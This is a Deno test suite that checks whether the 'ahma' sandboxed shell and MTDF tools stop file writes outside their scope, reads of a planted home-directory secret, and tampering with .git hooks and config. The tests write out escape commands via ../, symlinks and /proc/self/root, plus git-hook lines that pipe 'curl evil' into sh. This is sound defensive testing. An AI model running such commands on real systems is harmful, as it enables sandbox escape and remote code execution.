import assert from "node:assert/strict";
import { join } from "node:path";
import { type AhmaSession, resultText, startAhma } from "../harness/ahma_process.ts";
import {
  entryNames,
  makeOutsideLayout,
  plantHomeSecret,
  readIfPresent,
} from "../harness/host_probe.ts";
import { fixtureArgs } from "../harness/repository.ts";

/** Runs a command line through `sandboxed_shell`; returns its rendered output. */
async function shell(ahma: AhmaSession, command: string): Promise<string> {
  const result = await ahma.client.callTool({ name: "sandboxed_shell", arguments: { command } });
  return resultText(result);
}

/** Each escape attempt is its own command, so one failing does not hide the others. */
const WRITE_ATTEMPTS: Record<string, (outside: string) => string> = {
  "absolute path": (outside) => `echo pwned > ${outside}/absolute.txt`,
  "../": () => "echo pwned > ../outside/dotdot.txt",
  "symlink in the scope": () => "ln -s ../outside link && echo pwned > link/symlink.txt",
  "/proc/self/root": (outside) => `echo pwned > /proc/self/root${outside}/proc.txt`,
};

for (const [route, attempt] of Object.entries(WRITE_ATTEMPTS)) {
  Deno.test(`sandboxed_shell cannot write outside the scope by ${route}`, async () => {
    await using layout = await makeOutsideLayout();
    await using ahma = await startAhma(["--sandbox-scope", layout.project]);
    const text = await shell(ahma, attempt(layout.outside));
    assert.match(text, /Read-only file system/);
    assert.doesNotMatch(text, /\[exit code 0 /);
    assert.deepEqual(await entryNames(layout.outside), []);
  });
}

Deno.test("an MTDF tool is confined like sandboxed_shell", async () => {
  await using layout = await makeOutsideLayout();
  await using ahma = await startAhma(fixtureArgs(layout.project));
  const result = await ahma.client.callTool({
    name: "sh_run",
    arguments: { c: `echo pwned > ${layout.outside}/mtdf.txt` },
  });
  assert.equal(result.isError, true);
  assert.match(resultText(result), /Read-only file system/);
  assert.equal(await readIfPresent(join(layout.outside, "mtdf.txt")), undefined);
});

Deno.test("sandboxed_shell writes to the home directory land in a throwaway copy", async () => {
  await using layout = await makeOutsideLayout();
  await using ahma = await startAhma(["--sandbox-scope", layout.project]);
  const name = `.ahma_test_planted_${crypto.randomUUID()}`;
  const text = await shell(ahma, `echo pwned > "$HOME/${name}" && cat "$HOME/${name}"`);
  assert.match(text, /pwned/);
  assert.equal(await readIfPresent(join(Deno.env.get("HOME") ?? "/", name)), undefined);
});

Deno.test("sandboxed_shell cannot read a secret in the home directory", async () => {
  await using layout = await makeOutsideLayout();
  await using secret = await plantHomeSecret();
  await using ahma = await startAhma(["--sandbox-scope", layout.project]);
  const name = secret.path.slice(secret.path.lastIndexOf("/") + 1);
  assert.doesNotMatch(await shell(ahma, 'ls -a "$HOME"'), new RegExp(name));
  const text = await shell(ahma, `cat ${secret.path} || cat /proc/self/root${secret.path}`);
  assert.ok(!text.includes(secret.content), text);
  assert.doesNotMatch(text, /\[exit code 0 /);
  assert.equal(await Deno.readTextFile(secret.path), secret.content);
});

Deno.test("sandboxed_shell cannot change .git/hooks or .git/config after git init", async () => {
  await using layout = await makeOutsideLayout();
  await using ahma = await startAhma(["--sandbox-scope", layout.project]);
  assert.match(await shell(ahma, "git init -q . && echo initialised"), /initialised/);
  const git = join(layout.project, ".git");
  const config = await Deno.readTextFile(join(git, "config"));
  const hooks = await entryNames(join(git, "hooks"));
  const attempts = [
    "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit",
    "echo '[core]\n\tfsmonitor = curl evil' >> .git/config",
    "git config core.hooksPath /tmp",
    "rm -rf .git/hooks",
    "mv .git/hooks .git/hooks-old",
    "mv .git .git-old && mkdir .git && echo '[core]' > .git/config",
  ];
  for (const attempt of attempts) {
    assert.doesNotMatch(await shell(ahma, attempt), /\[exit code 0 /, attempt);
  }
  assert.equal(await Deno.readTextFile(join(git, "config")), config);
  assert.deepEqual(
    await entryNames(join(git, "hooks")),
    hooks,
  );
  assert.equal(await readIfPresent(join(layout.project, ".git-old", "config")), undefined);
});

Deno.test("sandboxed_shell cannot rewrite a .git file that points git elsewhere", async () => {
  await using layout = await makeOutsideLayout();
  const gitFile = join(layout.project, ".git");
  await Deno.writeTextFile(gitFile, `gitdir: ${layout.outside}\n`);
  await using ahma = await startAhma(["--sandbox-scope", layout.project]);
  const text = await shell(ahma, "echo 'gitdir: evil' > .git || mv .git gone");
  assert.doesNotMatch(text, /\[exit code 0 /);
  assert.equal(await Deno.readTextFile(gitFile), `gitdir: ${layout.outside}\n`);
});
